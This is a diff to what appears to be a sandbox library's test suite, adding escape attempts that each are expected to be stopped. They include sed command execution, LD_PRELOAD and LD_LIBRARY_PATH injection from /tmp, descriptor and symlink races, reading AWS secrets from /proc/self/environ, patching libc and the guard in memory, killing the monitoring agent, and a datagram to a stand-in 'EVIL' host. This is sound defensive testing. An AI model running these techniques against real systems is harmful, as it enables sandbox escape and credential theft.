@@ -122,6 +122,13 @@ def limited(size):
 sizes = range(2_200_000, 6_000_000, 40_960)
 won = any(b'pwned' in output(['/usr/bin/sed', '-n', '1e echo pwned'], input=b'x\\n', preexec_fn=limited(size)) for size in sizes)
 """),
+    case("shell-by-sed-little-data", STOPPED, "sed with so little memory for data that the library's own pages are refused", """
+import resource
+def limited(size):
+    return lambda: resource.setrlimit(resource.RLIMIT_DATA, (size, -1))
+sizes = range(0, 1_600_000, 8192)
+won = any(b'pwned' in output(['/usr/bin/sed', '-n', '1e echo pwned'], input=b'x\\n', preexec_fn=limited(size)) for size in sizes)
+"""),
     case("interpreter-again", STOPPED, "another Python, isolated from the hook",
          "won = output(['/usr/bin/python3', '-I', '-c', 'print(\"pwned\")']) == b'pwned\\n'", rule="process.allow"),
     case("runtime-replaces-itself", STOPPED, "execv of the runtime by itself", """
@@ -217,6 +224,36 @@ stop = True
 [t.join() for t in threads]
 sys.setswitchinterval(0.005)
 """, rule="process.allow"),
+    case("environment-grows", STOPPED, "a child's environment that grows after it was counted, so that ours has no room", """
+pointers = (ctypes.c_char_p * 300)(*[b'A=%d' % n for n in range(299)], None)
+words = (ctypes.c_size_t * 300).from_buffer(pointers)
+first, zero = (ctypes.c_size_t * 1)(words[1]), (ctypes.c_size_t * 1)(0)
+stop = False
+def flip():
+    while not stop:
+        ctypes.memmove(ctypes.addressof(words) + 8, first, 8); ctypes.memmove(ctypes.addressof(words) + 8, zero, 8)
+threads = [threading.Thread(target=flip) for _ in range(2)]
+sys.setswitchinterval(1e-6)
+[t.start() for t in threads]
+reader, writer = os.pipe()
+os.set_inheritable(writer, True)
+argv = (ctypes.c_char_p * 4)(b'sed', b'1e echo pwned', b'/etc/hostname', None)
+actions = ctypes.create_string_buffer(256)
+libc.posix_spawn_file_actions_init(actions)
+libc.posix_spawn_file_actions_adddup2(actions, writer, 1)
+pid = ctypes.c_int()
+deadline = time.time() + 8
+os.set_blocking(reader, False)
+while time.time() < deadline and not won:
+    if libc.posix_spawn(ctypes.byref(pid), b'/usr/bin/sed', actions, None, argv, pointers) == 0:
+        try: os.waitpid(pid.value, 0)
+        except OSError: pass
+    try: won = b'pwned' in os.read(reader, 4096)
+    except BlockingIOError: pass
+stop = True
+[t.join() for t in threads]
+sys.setswitchinterval(0.005)
+""", rule="process.shells"),
 ]
 
 CODE = [
@@ -235,6 +272,30 @@ except OSError: pass
 won = os.path.exists('/tmp/planted')
 os.path.exists('/tmp/planted') and os.unlink('/tmp/planted')
 """, rule="process.from_writable"),
+    case("library-swapped-by-thread", STOPPED, "a descriptor that is a library's in /tmp by the time it is mapped", """
+evil = os.open(write('/tmp/plant.so', open('/var/task/plant.bin', 'rb').read()), os.O_RDONLY)
+good = os.open('/bin/sh', os.O_RDONLY)
+number, stop = os.dup(good), False
+def flip():
+    while not stop:
+        for file in (evil, good):
+            try: os.dup2(file, number)
+            except OSError: pass
+threads = [threading.Thread(target=flip) for _ in range(2)]
+sys.setswitchinterval(1e-6)
+[t.start() for t in threads]
+libc.mmap.restype = ctypes.c_void_p
+libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
+libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
+deadline = time.time() + 3
+while time.time() < deadline and not won:
+    address = libc.mmap(None, 4096, 5, 2, number, 0)
+    won = any('x' in mapping[2] for mapping in mapped('/tmp/plant.so'))
+    if address and address < 1 << 47: libc.munmap(address, 4096)
+stop = True
+[t.join() for t in threads]
+sys.setswitchinterval(0.005)
+""", rule="process.from_writable"),
     *[case(f"child-{variable.lower().replace('_', '-')}", STOPPED, f"an allowed child with {variable} that leads to /tmp", f"""
 os.makedirs('/tmp/lib', exist_ok=True)
 plant = open('/var/task/plant.bin', 'rb').read()
@@ -245,6 +306,32 @@ won = os.path.exists('/tmp/planted')
 os.path.exists('/tmp/planted') and os.unlink('/tmp/planted')
 """, rule="process.from_writable")
       for variable, value in (("LD_PRELOAD", "/tmp/lib/plant.so"), ("LD_AUDIT", "/tmp/lib/plant.so"), ("LD_LIBRARY_PATH", "/tmp/lib"))],
+    *[case(f"child-{variable.lower().replace('_', '-')}-with-a-token", STOPPED, "the same by a token that the loader replaces, and ..", f"""
+os.makedirs('/tmp/lib', exist_ok=True)
+plant = open('/var/task/plant.bin', 'rb').read()
+write('/tmp/lib/plant.so', plant)
+write('/tmp/lib/libacl.so.1', plant)
+output(['/usr/bin/sed', 'p'], input=b'x', env={{'{variable}': '/usr/$LIB/../../../tmp/lib{file}'}})
+won = os.path.exists('/tmp/planted')
+os.path.exists('/tmp/planted') and os.unlink('/tmp/planted')
+""", rule="process.from_writable")
+      for variable, file in (("LD_PRELOAD", "/plant.so"), ("LD_AUDIT", "/plant.so"), ("LD_LIBRARY_PATH", ""))],
+    case("child-ld-library-path-swapped", STOPPED, "the same by a link that leads to /tmp by the time the loader follows it", """
+os.makedirs('/tmp/lib', exist_ok=True)
+write('/tmp/lib/libacl.so.1', open('/var/task/plant.bin', 'rb').read())
+racer = os.fork()
+if racer == 0:
+    while True:
+        for target in ('/usr/lib/x86_64-linux-gnu', '/tmp/lib'):
+            try: os.symlink(target, '/tmp/next'); os.rename('/tmp/next', '/tmp/now')
+            except OSError: pass
+deadline = time.time() + 3
+while time.time() < deadline and not os.path.exists('/tmp/planted'):
+    output(['/usr/bin/sed', 'p'], input=b'x', env={'LD_LIBRARY_PATH': '/tmp/now'})
+os.kill(racer, 9); os.waitpid(racer, 0)
+won = os.path.exists('/tmp/planted')
+os.path.exists('/tmp/planted') and os.unlink('/tmp/planted')
+""", rule="process.from_writable"),
     case("child-ld-preload-relative", STOPPED, "the same by a relative path", """
 os.makedirs('/tmp/lib', exist_ok=True)
 write('/tmp/lib/plant.so', open('/var/task/plant.bin', 'rb').read())
@@ -296,6 +383,68 @@ except OSError: pass
 start, end, *_ = next(m for m in mapped('libc.so.6') if 'x' in m[2])
 libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
 libc.madvise(start, end - start, 4)
+try: won = b'AWS_SECRET' in open('/proc/self/environ', 'rb').read()
+except OSError: pass
+""", rule="self_protection", alone=True),
+    case("libc-written-in-a-race", STOPPED, "/proc/self/mem written by a thread by the descriptor's number, between open and verdict", """
+try: open('/proc/self/environ')  # the hook opens its channel
+except OSError: pass
+number = os.open('/dev/null', os.O_RDONLY)
+os.close(number)
+keep = bytes(bytearray(b'0123456789' * 10))
+area = id(keep) + bytes.__basicsize__ - 1
+stop = False
+def put():
+    while not stop:
+        try: os.pwrite(number, b'PWNED', area)
+        except OSError: pass
+threads = [threading.Thread(target=put) for _ in range(2)]
+[t.start() for t in threads]
+sys.setswitchinterval(1e-6)
+deadline = time.time() + 5
+while time.time() < deadline and not keep.startswith(b'PWN'):
+    try: os.close(os.open('/proc/self/mem', os.O_WRONLY))
+    except OSError: pass
+stop = True
+[t.join() for t in threads]
+sys.setswitchinterval(0.005)
+won = keep.startswith(b'PWN')
+""", rule="self_protection"),
+    case("page-unmapped", STOPPED, "the state page and handoff unmapped, others mapped there by a hint", """
+libc.mmap.restype = ctypes.c_void_p
+libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
+libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
+for start, end, perm, path, offset in mapped('ringfence'):
+    if 'memfd' not in path: continue
+    data = ctypes.string_at(start, end - start)
+    file = os.memfd_create('x', 0)
+    os.write(file, data.replace(b'/proc/*/environ', b'/prox/*/environ'))
+    libc.munmap(start, end - start)
+    libc.mmap(start, end - start, 1, 1, file, 0)
+try: won = b'AWS_SECRET' in open('/proc/self/environ', 'rb').read()
+except OSError: pass
+""", rule="self_protection", alone=True),
+    case("shield-zeroed", STOPPED, "the library's list of what may not change zeroed, then libc's text put back, by ctypes", """
+lines = [line.split(None, 5) for line in open('/proc/self/maps')]
+own = [line for line in lines if 'libringfence' in line[-1]]
+if own:
+    base = int(own[0][0].split('-')[0], 16)
+    head = open(own[0][-1].strip(), 'rb').read(4096)
+    count, = struct.unpack_from('<H', head, 56)
+    loads = [struct.unpack_from('<IIQQQQQQ', head, 64 + 56 * n) for n in range(count)]
+    kind, flags, offset, at, _, filled, size, align = [load for load in loads if load[0] == 1 and load[1] & 2][-1]
+    bss = range(base + at + filled, base + at + size)
+    for line in lines:
+        start, end = (int(part, 16) for part in line[0].split('-'))
+        start, end = max(start, bss.start), min(end, bss.stop)
+        if line[1].startswith('rw') and start < end:
+            ctypes.memset(start, 0, end - start)
+start, end, _, path, offset = next(m for m in mapped('libc.so.6') if 'x' in m[2])
+with open(path, 'rb') as file:
+    file.seek(offset); original = file.read(end - start)
+libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
+if libc.mprotect(start, end - start, 7) == 0:
+    ctypes.memmove(start, original, end - start)
 try: won = b'AWS_SECRET' in open('/proc/self/environ', 'rb').read()
 except OSError: pass
 """, rule="self_protection", alone=True),
@@ -431,6 +580,28 @@ except OSError: pass
         ("syscall", "open by syscall(2)",
          "os.read(libc.syscall(2, b'/proc/self/environ', 0), 65536)"),
     )],
+    case("environ-raced", STOPPED, "by a thread that reads by the descriptor's number, in the moment between open and verdict", """
+try: open('/proc/self/environ')  # the hook opens its channel
+except OSError: pass
+number = os.open('/dev/null', os.O_RDONLY)
+os.close(number)
+found, stop = [], False
+def read():
+    while not stop and not found:
+        try: found.extend([1] * (b'AWS_SECRET' in os.pread(number, 65536, 0)))
+        except OSError: pass
+threads = [threading.Thread(target=read) for _ in range(2)]
+[t.start() for t in threads]
+sys.setswitchinterval(1e-6)
+deadline = time.time() + 5
+while time.time() < deadline and not found:
+    try: os.close(os.open('/proc/self/environ', os.O_RDONLY))
+    except OSError: pass
+stop = True
+[t.join() for t in threads]
+sys.setswitchinterval(0.005)
+won = bool(found)
+""", rule="files.deny_read"),
     case("environ-fopen", STOPPED, "libc's fopen", """
 buffer = ctypes.create_string_buffer(65536)
 libc.fopen.restype = ctypes.c_void_p
@@ -606,6 +777,11 @@ s.settimeout(1)
 try: s.connect((2, 9999))
 except OSError as error: won = error.errno not in (13, 1)
 """, control=False),
+    case("vsock-datagram", STOPPED, "a datagram to the host by AF_VSOCK, which needs no connect: the address alone is refused", """
+s = socket.socket(type=socket.SOCK_DGRAM)
+to = ctypes.create_string_buffer(struct.pack('=HHII4x', 40, 0, 9999, 2), 16)
+won = libc.sendto(s.fileno(), mark.encode(), len(mark), 0, to, 16) >= 0 or ctypes.get_errno() != 1
+""", rule="self_protection", control=False),
     case("child-sends", STOPPED, "an allowed child's libc does it: sed is told to read /dev/tcp, Python's fork sends",
          "forked(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(mark.encode(), (EVIL, 9999)) and b'')", rule="egress.allow"),
 ]
@@ -637,6 +813,49 @@ def own():
 number = own()
 def work():
     try: return b'written' if os.write(number, b'') == 0 and os.write(number, b'X') == 1 else b''
+    except OSError: return b''
+won = number is not None and forked(work) == b'written'
+""", rule="egress.runtime_api", alone=True, control=False),
+    case("runtime-api-by-another-number", STOPPED, "a fork writes to a duplicate of the runtime's own connection", """
+host, port = os.environ['AWS_LAMBDA_RUNTIME_API'].split(':')
+def own():
+    for number in range(3, 900):
+        try:
+            s = socket.socket(fileno=os.dup(number))
+            if s.getpeername() == (host, int(port)): return number
+        except (OSError, ValueError): pass
+        except Exception: pass
+number = own()
+def work():
+    try: return b'written' if os.write(os.dup(number), b'X') == 1 else b''
+    except OSError: return b''
+won = number is not None and forked(work) == b'written'
+""", rule="egress.runtime_api", alone=True, control=False),
+    case("runtime-api-as-output", STOPPED, "an allowed child gets the runtime's own connection as its output", """
+host, port = os.environ['AWS_LAMBDA_RUNTIME_API'].split(':')
+def own():
+    for number in range(3, 900):
+        try:
+            s = socket.socket(fileno=os.dup(number))
+            if s.getpeername() == (host, int(port)): return number
+        except (OSError, ValueError): pass
+        except Exception: pass
+number = own()
+child = subprocess.run(['/usr/bin/sed', '-n', '1ipwned', '/etc/hostname'], stdout=number, stderr=subprocess.DEVNULL)
+won = child.returncode == 0
+""", rule="egress.runtime_api", alone=True, control=False),
+    case("runtime-api-by-an-address", STOPPED, "a fork sends on the runtime's own connection, with an address that the kernel passes over", """
+host, port = os.environ['AWS_LAMBDA_RUNTIME_API'].split(':')
+def own():
+    for number in range(3, 900):
+        try:
+            s = socket.socket(fileno=os.dup(number))
+            if s.getpeername() == (host, int(port)): return number
+        except (OSError, ValueError): pass
+        except Exception: pass
+number = own()
+def work():
+    try: return b'written' if socket.socket(fileno=number).sendto(b'X', ('127.0.0.1', 9)) == 1 else b''
     except OSError: return b''
 won = number is not None and forked(work) == b'written'
 """, rule="egress.runtime_api", alone=True, control=False),
@@ -704,6 +923,10 @@ os.waitpid(child, 0); is_there('survived')
 import signal
 os.kill(app_helper, signal.SIGUSR1); is_there('survived-4')
 """, "won = outlived('survived-4')", rule="process.survivors", alone=True),
+    case("survivor-of-a-daemon-from-init", STOPPED, "a process that a daemon starts, which init started and which has left its parent", """
+import signal
+os.kill(app_daemon, signal.SIGUSR1); is_there('survived-5')
+""", "won = outlived('survived-5')", rule="process.survivors", alone=True),
     case("survivor-renamed", STOPPED, "one that calls itself by another name and closes everything", """
 if os.fork() == 0:
     os.closerange(0, 1024)
@@ -749,6 +972,35 @@ except OSError: pass
         ("read", "the agent's memory and environment",
          "won = pid != 0 and b'AWS' in open(f'/proc/{pid}/environ', 'rb').read()"),
     )],
+    case("agent-killed-by-swapped-descriptor", STOPPED, "a descriptor that is another process's by the time the kernel looks at it", """
+import signal
+pid = agent()
+target = os.open(f'/proc/{pid}', os.O_DIRECTORY) if pid else -1
+harmless_child = os.fork()
+if harmless_child == 0:
+    signal.pause(); os._exit(0)
+good = os.open(f'/proc/{harmless_child}', os.O_DIRECTORY)
+number = os.dup(good)
+stop = False
+def flip():
+    while not stop:
+        os.dup2(target, number); os.dup2(good, number)
+threads = [threading.Thread(target=flip) for _ in range(2)]
+[t.start() for t in threads]
+sys.setswitchinterval(1e-6)
+deadline = time.time() + 5
+while time.time() < deadline and not won:
+    for _ in range(200):
+        try: signal.pidfd_send_signal(number, signal.SIGKILL)
+        except OSError: pass
+    won = agent() != pid
+stop = True
+[t.join() for t in threads]
+sys.setswitchinterval(0.005)
+try: os.kill(harmless_child, 9)
+except OSError: pass
+os.waitpid(harmless_child, 0)
+""", rule="self_protection", control=False, alone=True),
     case("descriptor-replaced", STOPPED, "our descriptors replaced by dup2", """
 numbers = [int(n) for n in os.environ.get('RINGFENCE_FDS', '').replace(',invoked', '').split(',') if n]
 null = os.open('/dev/null', os.O_RDWR)
